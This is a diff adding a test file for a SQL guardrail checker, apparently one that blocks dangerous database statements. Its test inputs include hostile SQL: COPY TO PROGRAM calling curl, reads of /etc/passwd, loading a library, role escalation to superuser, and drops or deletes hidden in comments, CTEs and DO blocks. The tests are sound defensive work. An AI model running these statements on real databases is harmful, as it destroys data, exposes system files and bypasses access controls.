@@ -1,0 +1,90 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { GuardrailChecker, loadGuardrailParser } from './guardrails.js';
+
+const checker = new GuardrailChecker();
+beforeAll(loadGuardrailParser);
+
+const ALL = ['ddl', 'truncate', 'write_without_where', 'copy_program', 'set_role', 'escape'];
+const denied = (sql: string, rails: readonly string[] = ALL, readOnly = false) => {
+  const d = checker.check(sql, rails, readOnly);
+  return d.allowed ? null : d.guardrail;
+};
+
+describe('guardrails', () => {
+  it('allows ordinary reads and bounded writes', () => {
+    for (const sql of [
+      'select 1',
+      'select * from t where id = $1',
+      'update t set a = 1 where id = 2',
+      'delete from t where id in (select id from u)',
+      'insert into t values (1)',
+      'begin; select 1; commit',
+      "copy t to stdout",
+      "select set_config('statement_timeout', '5s', false)",
+      'explain select * from t',
+    ]) {
+      expect(denied(sql), sql).toBeNull();
+    }
+  });
+
+  it('denies each class', () => {
+    expect(denied('create table x (a int)')).toBe('ddl');
+    expect(denied('drop table t')).toBe('ddl');
+    expect(denied('alter table t add column b int')).toBe('ddl');
+    expect(denied('revoke all on t from public')).toBe('ddl');
+    expect(denied('truncate t')).toBe('truncate');
+    expect(denied('update t set a = 1')).toBe('write_without_where');
+    expect(denied('delete from t')).toBe('write_without_where');
+    expect(denied("copy t to program 'curl evil'")).toBe('copy_program');
+    expect(denied("copy t from '/etc/passwd'")).toBe('copy_program');
+    expect(denied('set role postgres')).toBe('set_role');
+    expect(denied('set session authorization postgres')).toBe('set_role');
+    expect(denied("select set_config('role', 'postgres', false)")).toBe('set_role');
+    expect(denied('alter role me superuser', ['escape'])).toBe('escape');
+    expect(denied("select pg_read_file('/etc/passwd')", ['escape'])).toBe('escape');
+    expect(denied("load 'evil'", ['escape'])).toBe('escape');
+    expect(denied('insert into t values (1)', ['write'])).toBe('write');
+  });
+
+  it('finds denied statements hidden in multi-statement strings, comments and CTEs', () => {
+    expect(denied('select 1; drop table t')).toBe('ddl');
+    expect(denied('select 1 /* harmless */; -- comment\n delete from t')).toBe('write_without_where');
+    expect(denied('/* drop table t */ select 1')).toBeNull();
+    expect(denied("select '; drop table t'")).toBeNull();
+    expect(denied('with gone as (delete from t returning *) select * from gone')).toBe('write_without_where');
+    expect(denied('with x as (select 1) update t set a = 1')).toBe('write_without_where');
+    expect(denied('explain analyze delete from t')).toBe('write_without_where');
+    expect(denied('prepare p as delete from t')).toBe('write_without_where');
+  });
+
+  it('looks inside DO blocks and refuses dynamic SQL it cannot check', () => {
+    expect(denied('do $$ begin delete from t; end $$')).toBe('write_without_where');
+    expect(denied('do $$ begin perform 1; end $$')).toBeNull();
+    expect(denied("do $$ declare n int; begin n := (select count(*) from t); raise notice '%', n; end $$")).toBeNull();
+    expect(denied("do $$ begin execute 'drop table t'; end $$")).toBe('ddl');
+    expect(denied("do $$ begin perform set_config('role', 'postgres', false); end $$")).toBe('set_role');
+    expect(denied("do $$ begin if true then truncate t; end if; end $$")).toBe('truncate');
+    expect(denied('do $$ begin perform 1; end $$', ['do_block'])).toBe('do_block');
+  });
+
+  it('keeps a read-only role read-only', () => {
+    for (const sql of [
+      'set default_transaction_read_only = off',
+      'set transaction read write',
+      'begin read write',
+      'start transaction isolation level serializable, read write',
+      'set session characteristics as transaction read write',
+      "select set_config('default_transaction_read_only', 'off', false)",
+      "select set_config(current_setting('x'), 'off', false)",
+    ]) {
+      expect(denied(sql, [], true), sql).toBe('read_only');
+    }
+    expect(denied('begin read only', [], true)).toBeNull();
+    expect(denied('reset default_transaction_read_only', [], true)).toBeNull();
+  });
+
+  it('fails closed on text the parser rejects, and allows anything when the role has no guardrails', () => {
+    expect(denied('selec 1')).toBe('unparsable');
+    expect(checker.check('drop table t', [], false)).toEqual({ allowed: true });
+  });
+});
